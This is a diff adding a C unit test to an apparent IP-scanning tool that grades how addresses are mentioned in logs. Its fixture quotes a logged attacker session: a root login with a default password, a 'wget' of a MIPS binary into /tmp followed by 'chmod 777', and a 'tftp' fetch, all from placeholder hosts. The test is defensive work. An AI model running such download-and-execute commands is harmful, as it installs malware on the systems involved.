@@ -276,6 +276,22 @@ static void test_ipscan_reporters_sandbox_is_mentioned(void **state)
 		    HINT(IPSCAN_HINT_MENTIONED));
 }
 
+/* The host a logged download command fetches from is only named: the
+ * attacker is the one that ran it. */
+static void test_ipscan_download_command_host_is_mentioned(void **state)
+{
+	const char *log = "Session from 192.0.2.190 (login root/xc3511):\n"
+			  "  cd /tmp; wget http://198.51.100.201/bins/mips; "
+			  "chmod 777 mips\n";
+
+	(void)state;
+	assert_true(hints_of(log, "198.51.100.201") &
+		    HINT(IPSCAN_HINT_MENTIONED));
+	assert_true(score_of(log, "198.51.100.201") < IPSCAN_SELECT);
+	assert_true(score_of("  tftp -g -r x 198.51.100.202\n",
+			     "198.51.100.202") < IPSCAN_TRUST_BODY);
+}
+
 /* A denial anywhere in the sentence of a sole address counts for it,
  * beyond the clause; in a sentence that names two, it stays with the
  * words right after the one it follows. */
@@ -1321,6 +1337,7 @@ int main(void)
 	    cmocka_unit_test(
 		test_ipscan_in_or_outside_your_network_after_address),
 	    cmocka_unit_test(test_ipscan_reporters_sandbox_is_mentioned),
+	    cmocka_unit_test(test_ipscan_download_command_host_is_mentioned),
 	    cmocka_unit_test(
 		test_ipscan_denial_in_the_sentence_of_a_sole_address),
 	    cmocka_unit_test(test_ipscan_denial_after_a_list),
